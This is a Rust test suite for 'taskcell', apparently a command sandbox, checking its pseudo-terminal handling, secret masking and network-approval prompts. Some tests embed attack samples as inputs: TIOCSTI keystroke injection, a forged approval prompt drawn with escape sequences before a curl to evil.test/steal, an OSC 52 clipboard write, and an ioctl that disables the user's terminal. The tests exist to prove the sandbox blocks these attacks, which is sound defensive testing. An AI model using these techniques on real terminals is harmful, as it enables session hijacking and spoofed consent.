//! Interactive cells: taskcell started on a terminal (a pty this test opens, standing in
//! for the user's terminal) gives the command its own pseudo-terminal, relays both ways,
//! forwards resizes, passes Ctrl-C as a byte, masks secrets on the screen, keeps
//! injected keystrokes inside, and restores the user's terminal.

mod common;

use std::io::Read;
use std::os::fd::AsRawFd;
use std::time::Duration;

use common::pty::Term;
use common::*;
use nix::sys::termios::{self, LocalFlags};

#[test]
fn the_command_gets_its_own_terminal_and_ours_is_raw_then_restored() {
    let ws = Ws::new();
    let before = termios::tcgetattr(&nix::pty::openpty(None, None).unwrap().master)
        .unwrap()
        .local_flags;
    assert!(before.contains(LocalFlags::ICANON));
    let mut t = Term::spawn(
        ws.path(),
        &[
            "run",
            "--",
            "/bin/sh",
            "-c",
            "tty; [ -t 0 ] && [ -t 1 ] && echo both-tty; echo ready; read line; echo got=$line",
        ],
        &[],
    );
    assert!(t.wait_for("ready"), "{}", t.text());
    // While the cell runs, our terminal is raw: no echo, no line editing.
    let raw = t.local_flags();
    assert!(
        !raw.contains(LocalFlags::ICANON) && !raw.contains(LocalFlags::ECHO),
        "{raw:?}"
    );
    t.type_bytes(b"hello\r");
    assert!(t.wait_for("got=hello"), "{}", t.text());
    let st = t.wait();
    assert!(st.success(), "{}", t.text());
    let text = t.text();
    assert!(text.contains("/dev/pts/"), "{text}");
    assert!(text.contains("both-tty"), "{text}");
    // Restored.
    let after = t.local_flags();
    assert!(
        after.contains(LocalFlags::ICANON) && after.contains(LocalFlags::ECHO),
        "{after:?}"
    );
}

#[test]
fn a_resize_reaches_the_command() {
    let ws = Ws::new();
    let mut t = Term::spawn(
        ws.path(),
        &[
            "run",
            "--",
            "/bin/sh",
            "-c",
            "echo size=$(stty size); i=0; while [ \"$(stty size)\" != \"40 100\" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; echo now=$(stty size)",
        ],
        &[],
    );
    assert!(t.wait_for("size=24 80"), "{}", t.text());
    let ws = libc::winsize {
        ws_row: 40,
        ws_col: 100,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    // SAFETY: TIOCSWINSZ on our master: the kernel sends SIGWINCH to taskcell.
    assert_eq!(
        unsafe { libc::ioctl(t.master.as_raw_fd(), libc::TIOCSWINSZ, &ws) },
        0
    );
    assert!(t.wait_for("now=40 100"), "{}", t.text());
    assert!(t.wait().success());
}

#[test]
fn ctrl_c_is_a_byte_that_interrupts_the_command() {
    let ws = Ws::new();
    let mut t = Term::spawn(
        ws.path(),
        &[
            "run",
            "--",
            "/bin/sh",
            "-c",
            "trap 'echo got-int; exit 3' INT; echo ready; while :; do sleep 0.05; done",
        ],
        &[],
    );
    assert!(t.wait_for("ready"), "{}", t.text());
    t.type_bytes(b"\x03");
    assert!(t.wait_for("got-int"), "{}", t.text());
    assert_eq!(t.wait().code(), Some(3));
}

#[test]
fn injected_keystrokes_stay_inside_the_cell() {
    // TIOCSTI pushes bytes into a terminal's input queue. Inside a cell it may reach the
    // cell's own pty at most (or be refused): never the user's terminal.
    let ws = Ws::new();
    for mode in ["--pty", "--no-pty"] {
        let mut t = Term::spawn(
            ws.path(),
            &[
                "run",
                mode,
                "--",
                "/usr/bin/python3",
                "-c",
                "import fcntl, termios\n\
                 for fd in (0, 1, 2):\n\
                 \x20   try:\n\
                 \x20       [fcntl.ioctl(fd, termios.TIOCSTI, bytes([c])) for c in b'echo PWNED\\n']\n\
                 \x20       print('injected', fd)\n\
                 \x20   except OSError as e:\n\
                 \x20       print('refused', fd, e.errno)\n",
            ],
            &[],
        );
        let st = t.wait();
        assert!(st.success(), "{mode}: {}", t.text());
        assert_eq!(
            t.pending_input(),
            0,
            "{mode}: bytes reached the user's terminal: {}",
            t.text()
        );
    }
}

#[test]
fn output_on_the_terminal_is_masked() {
    let ws = Ws::new();
    let mut t = Term::spawn(
        ws.path(),
        &[
            "run",
            "--secret",
            "API_TOKEN=env:TC_PTY_TOKEN",
            "--",
            "/bin/sh",
            "-c",
            "printf '\\033[1;31mtoken: %s\\033[0m\\n' \"$(cat \"$API_TOKEN_FILE\")\"",
        ],
        &[("TC_PTY_TOKEN", "tok-0123456789-abcdef")],
    );
    assert!(t.wait_for("[taskcell:API_TOKEN]"), "{:?}", t.text());
    let st = t.wait();
    let text = t.text();
    assert!(st.success(), "{st:?} {text}");
    assert!(!text.contains("0123456789-abcdef"), "{text}");
    // The colours around the mask are intact.
    assert!(
        text.contains("\x1b[1;31mtoken: [taskcell:API_TOKEN]\x1b[0m"),
        "{text:?}"
    );
}

#[test]
fn the_terminal_is_restored_when_taskcell_is_terminated() {
    let ws = Ws::new();
    let mut t = Term::spawn(
        ws.path(),
        &["run", "--", "/bin/sh", "-c", "echo ready; sleep 30"],
        &[],
    );
    assert!(t.wait_for("ready"), "{}", t.text());
    assert!(!t.local_flags().contains(LocalFlags::ICANON));
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(t.child.id() as i32),
        nix::sys::signal::Signal::SIGTERM,
    )
    .unwrap();
    let st = t.wait();
    assert_eq!(st.code(), Some(143), "{}", t.text());
    let after = t.local_flags();
    assert!(
        after.contains(LocalFlags::ICANON) && after.contains(LocalFlags::ECHO),
        "{after:?}"
    );
}

/// A tiny HTTP server on 127.0.0.1 that answers every request with `hello from PATH`.
fn http_server() -> u16 {
    use std::io::Write;
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for c in l.incoming() {
            let Ok(mut c) = c else { continue };
            std::thread::spawn(move || {
                let mut buf = Vec::new();
                let mut b = [0u8; 1024];
                while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                    match c.read(&mut b) {
                        Ok(0) | Err(_) => return,
                        Ok(n) => buf.extend_from_slice(&b[..n]),
                    }
                }
                let line = String::from_utf8_lossy(&buf)
                    .lines()
                    .next()
                    .unwrap_or("")
                    .to_string();
                let path = line.split(' ').nth(1).unwrap_or("").to_string();
                let body = format!("hello from {path}\n");
                let _ = c.write_all(
                    format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    )
                    .as_bytes(),
                );
            });
        }
    });
    port
}

#[test]
fn a_network_approval_is_asked_on_the_cells_terminal() {
    let port = http_server();
    let ws = Ws::new();
    let rt = ws.outside("rt");
    std::fs::create_dir(&rt).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&rt, std::fs::Permissions::from_mode(0o700)).unwrap();
    let prof = ws.join("p.toml");
    std::fs::write(
        &prof,
        format!(
            "extends = \"build\"\n[network]\nmode = \"proxy\"\nallow = [\"127.0.0.1:{port}\"]\n\
             resolve = {{ \"yes.test\" = \"127.0.0.1\", \"no.test\" = \"127.0.0.1\" }}\nask = true\nask_timeout = \"60s\"\n"
        ),
    )
    .unwrap();
    let p = prof.display().to_string();
    let rts = rt.display().to_string();
    let script = format!(
        "echo started; curl -s http://yes.test:{port}/first; echo rc1=$?; \
         curl -s -o /dev/null -w 'code=%{{http_code}}\\n' http://no.test:{port}/second; echo done"
    );
    let mut t = Term::spawn(
        ws.path(),
        &["run", "-p", &p, "--", "/bin/sh", "-c", &script],
        &[("XDG_RUNTIME_DIR", &rts)],
    );
    assert!(t.wait_for("started"), "{}", t.text());
    assert!(
        t.wait_for(&format!("allow yes.test:{port}?")),
        "{}",
        t.text()
    );
    // The question is drawn on the bottom line from a known state, the cell's cursor,
    // attributes, character set and origin mode saved and restored around it.
    assert!(
        t.text()
            .contains("\x1b7\x1b[?6l\x1b[4l\x1b(B\x0f\x1b[0m\x1b[24;1H\x1b[2K"),
        "{:?}",
        t.text()
    );
    let code = t.code();
    t.type_bytes(format!("{code}o").as_bytes());
    assert!(t.wait_for("hello from /first"), "{}", t.text());
    assert!(
        t.wait_for(&format!("allow no.test:{port}?")),
        "{}",
        t.text()
    );
    let code = t.code();
    t.type_bytes(format!("{code}d").as_bytes());
    assert!(t.wait_for("done"), "{}", t.text());
    assert!(t.wait().success(), "{}", t.text());
    let text = t.text();
    assert!(text.contains("rc1=0"), "{text}");
    assert!(text.contains("code=403"), "{text}");
    assert!(!text.contains("hello from /second"), "{text}");
    // No stray line about `taskcell approve` was printed over the cell's screen.
    assert!(!text.contains("answer with `taskcell approve"), "{text}");
}

/// A profile asking for every host, with fixed answers for `hosts` (all 127.0.0.1).
fn ask_profile(ws: &Ws, port: u16, hosts: &[&str], timeout: &str) -> String {
    let prof = ws.join("ask.toml");
    let resolve: Vec<String> = hosts
        .iter()
        .map(|h| format!("\"{h}\" = \"127.0.0.1\""))
        .collect();
    std::fs::write(
        &prof,
        format!(
            "extends = \"build\"\n[network]\nmode = \"proxy\"\nallow = [\"127.0.0.1:{port}\"]\n\
             resolve = {{ {} }}\nask = true\nask_timeout = \"{timeout}\"\n",
            resolve.join(", ")
        ),
    )
    .unwrap();
    prof.display().to_string()
}

fn runtime_dir(ws: &Ws) -> String {
    use std::os::unix::fs::PermissionsExt;
    let rt = ws.outside("rt");
    std::fs::create_dir_all(&rt).unwrap();
    std::fs::set_permissions(&rt, std::fs::Permissions::from_mode(0o700)).unwrap();
    rt.display().to_string()
}

#[test]
fn a_forged_question_approves_nothing() {
    // The attack: the cell hides taskcell's real question (scroll region, origin mode,
    // invisible colours), draws its own question naming a harmless host, then asks for
    // the host it wants. The user answers the question they see with `y` Enter.
    let port = http_server();
    let ws = Ws::new();
    let p = ask_profile(&ws, port, &["evil.test"], "4s");
    let rt = runtime_dir(&ws);
    let log = ws.outside("audit.jsonl").display().to_string();
    let script = format!(
        "printf '\\033[1;22r\\033[?6h\\033[30;40m\\033[24;1H\\033[2K\\033[7m taskcell: allow docs.example.test:443? [y/N] \\033[22;1H'; \
         echo started; curl -s -o /dev/null -w 'code=%{{http_code}}\\n' http://evil.test:{port}/steal; echo done"
    );
    let mut t = Term::spawn(
        ws.path(),
        &[
            "run",
            "-p",
            &p,
            "--audit-log",
            &log,
            "--",
            "/bin/sh",
            "-c",
            &script,
        ],
        &[("XDG_RUNTIME_DIR", &rt)],
    );
    assert!(
        t.wait_for(&format!("allow evil.test:{port}?")),
        "{}",
        t.text()
    );
    // The real question resets what the cell set before drawing: origin mode, insert
    // mode, character set, attributes; then the bottom row by absolute position.
    assert!(
        t.text()
            .contains("\x1b[?6l\x1b[4l\x1b(B\x0f\x1b[0m\x1b[24;1H"),
        "{:?}",
        t.text()
    );
    for keys in [&b"y\r"[..], b"yes\r", b"o", b"a\r", b"Y\n"] {
        t.type_bytes(keys);
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(t.wait_for("done"), "{}", t.text());
    assert!(t.wait().success(), "{}", t.text());
    let text = t.text();
    assert!(text.contains("code=403"), "{text}");
    assert!(!text.contains("request: GET /steal"), "{text}");
    let audit = std::fs::read_to_string(&log).unwrap();
    assert!(!audit.contains("approved by"), "{audit}");
    assert!(audit.contains("\"decision\":\"timed out\""), "{audit}");
}

#[test]
fn a_long_host_at_80x24_is_one_row_drawn_once() {
    let port = http_server();
    let ws = Ws::new();
    let host = format!("{}.example.test", "h".repeat(57));
    assert_eq!(host.len(), 70);
    let p = ask_profile(&ws, port, &[&host], "60s");
    let rt = runtime_dir(&ws);
    // The cell keeps printing while it waits: its output is held, the question is not
    // redrawn.
    let script = format!(
        "(while :; do echo tick; sleep 0.05; done) & curl -s http://{host}:{port}/long; kill $!; echo; echo done"
    );
    let mut t = Term::spawn(
        ws.path(),
        &["run", "-p", &p, "--", "/bin/sh", "-c", &script],
        &[("XDG_RUNTIME_DIR", &rt)],
    );
    assert!(t.wait_for("? type "), "{}", t.text());
    let ticks = t.text().matches("tick").count();
    std::thread::sleep(Duration::from_millis(1000));
    let text = t.text();
    assert_eq!(t.questions(), 1, "{text:?}");
    assert_eq!(
        text.matches("tick").count(),
        ticks,
        "output held while asked"
    );
    let start = text.find("\x1b[7m taskcell: allow").unwrap() + "\x1b[7m".len();
    let line = &text[start..start + text[start..].find("\x1b[0m").unwrap()];
    assert!(line.chars().count() < 80, "{line:?}");
    assert!(line.contains(&format!(".test:{port}")), "{line:?}");
    let code = t.code();
    t.type_bytes(format!("{code}o").as_bytes());
    assert!(t.wait_for("hello from /long"), "{}", t.text());
    assert!(t.wait_for("done"), "{}", t.text());
    assert!(t.wait().success(), "{}", t.text());
    assert_eq!(t.questions(), 1, "{:?}", t.text());
}

#[test]
fn a_device_attributes_reply_is_not_the_answer_and_reaches_the_cell() {
    let port = http_server();
    let ws = Ws::new();
    let p = ask_profile(&ws, port, &["da.test"], "60s");
    let rt = runtime_dir(&ws);
    let script = format!(
        "stty raw -echo; curl -s http://da.test:{port}/da; printf '\\r\\n'; \
         dd bs=1 count=16 2>/dev/null | od -An -tx1; stty sane; echo done"
    );
    let mut t = Term::spawn(
        ws.path(),
        &["run", "-p", &p, "--", "/bin/sh", "-c", &script],
        &[("XDG_RUNTIME_DIR", &rt)],
    );
    assert!(t.wait_for("? type "), "{}", t.text());
    let code = t.code();
    let code = code.as_bytes();
    // The terminal's reply to a device-attributes query arrives while the user types.
    t.type_bytes(&code[..1]);
    t.type_bytes(b"\x1b[?64;1;2;6;22c");
    t.type_bytes(&code[1..]);
    t.type_bytes(b"\x1b[I");
    t.type_bytes(b"o");
    assert!(t.wait_for("hello from /da"), "{}", t.text());
    // After the question: the reply (and the focus report) for the cell, then 3 more bytes.
    t.type_bytes(b"xyz");
    assert!(t.wait_for("done"), "{}", t.text());
    assert!(t.wait().success(), "{}", t.text());
    let text = t.text();
    assert!(
        text.contains("1b 5b 3f 36 34 3b 31 3b 32 3b 36 3b 32 32 63 1b"),
        "{text}"
    );
}

#[test]
fn diagnostics_wait_until_the_full_screen_cell_ends() {
    // A refused request makes taskcell warn; in pty mode the warning must not be written
    // into the cell's screen while it runs, but shown after it and audited.
    let ws = Ws::new();
    let prof = ws.outside("p.toml");
    std::fs::write(
        &prof,
        "extends = \"build\"\n[network]\nmode = \"proxy\"\nallow = []\n",
    )
    .unwrap();
    let log = ws.outside("audit.jsonl");
    let mut t = Term::spawn(
        ws.path(),
        &[
            "run",
            "-p",
            prof.to_str().unwrap(),
            "--audit-log",
            log.to_str().unwrap(),
            "--",
            "/bin/sh",
            "-c",
            "printf '\\033[?1049h'; curl -s -o /dev/null http://refused.test/; sleep 0.3; echo cell-last-line; printf '\\033[?1049l'",
        ],
        &[],
    );
    let st = t.wait();
    assert!(st.success(), "{}", t.text());
    assert!(t.wait_for("while the cell ran"), "{}", t.text());
    let text = t.text();
    let last = text.find("cell-last-line").expect("the cell's output");
    let warn = text.find("refused.test").expect("the warning");
    assert!(
        warn > last,
        "a warning was written into the cell's screen: {text:?}"
    );
    let audit = std::fs::read_to_string(&log).unwrap();
    assert!(
        audit.contains("\"event\":\"notice\"") && audit.contains("refused.test"),
        "{audit}"
    );
}

#[test]
fn clipboard_writes_are_filtered_unless_the_profile_allows_them() {
    let ws = Ws::new();
    let script = "printf 'A\\033]52;c;cHduZWQ=\\007B\\033]0;my title\\007C\\n'";
    let allow = ws.outside("clip.toml");
    std::fs::write(
        &allow,
        "extends = \"build\"\n[terminal]\nclipboard = true\n",
    )
    .unwrap();
    for (extra, passes) in [(None, false), (Some(allow.to_str().unwrap()), true)] {
        let mut args = vec!["run"];
        if let Some(p) = extra {
            args.extend(["-p", p]);
        }
        args.extend(["--", "/bin/sh", "-c", script]);
        let mut t = Term::spawn(ws.path(), &args, &[]);
        assert!(t.wait_for("C\r\n"), "{:?}", t.text());
        assert!(t.wait().success(), "{:?}", t.text());
        let text = t.text();
        // Titles pass either way.
        assert!(text.contains("\x1b]0;my title\x07"), "{text:?}");
        assert_eq!(text.contains("52;c;cHduZWQ="), passes, "{text:?}");
        assert!(
            text.contains(if passes { "A\x1b]52" } else { "AB" }),
            "{text:?}"
        );
    }
}

#[test]
fn without_a_pty_the_cell_never_holds_the_users_terminal() {
    // The attack: with the user's terminal as its stdio, a cell sets the line discipline
    // to N_NULL (the user's shell is dead after it) and writes to the terminal through
    // fd 0 unmasked. Without a pty the cell gets pipes; the filter refuses TIOCSETD.
    let ws = Ws::new();
    let script = "[ -t 0 ] || echo stdin-not-a-tty; [ -t 1 ] || echo stdout-not-a-tty; \
        read line; echo got=$line; \
        python3 -c 'import fcntl, struct, sys\nfor fd in (0, 1, 2):\n  try:\n    fcntl.ioctl(fd, 0x5423, struct.pack(\"i\", 27)); print(\"ldisc-set\", fd)\n  except OSError as e:\n    print(\"refused\", fd, e.errno)\n'; \
        echo done";
    let mut t = Term::spawn(
        ws.path(),
        &["run", "--no-pty", "--", "/bin/sh", "-c", script],
        &[],
    );
    assert!(t.wait_for("stdout-not-a-tty"), "{}", t.text());
    t.type_bytes(b"hello\n");
    assert!(t.wait_for("done"), "{}", t.text());
    assert!(t.wait().success(), "{}", t.text());
    let text = t.text();
    assert!(text.contains("stdin-not-a-tty"), "{text}");
    assert!(text.contains("got=hello"), "{text}");
    assert!(!text.contains("ldisc-set"), "{text}");
    let mut ldisc: libc::c_int = -1;
    // SAFETY: TIOCGETD writes an int we own.
    assert_eq!(
        unsafe { libc::ioctl(t.slave.as_raw_fd(), libc::TIOCGETD, &mut ldisc) },
        0
    );
    assert_eq!(ldisc, 0, "the user's terminal is N_TTY again");
    let flags = t.local_flags();
    assert!(flags.contains(LocalFlags::ICANON) && flags.contains(LocalFlags::ECHO));
}
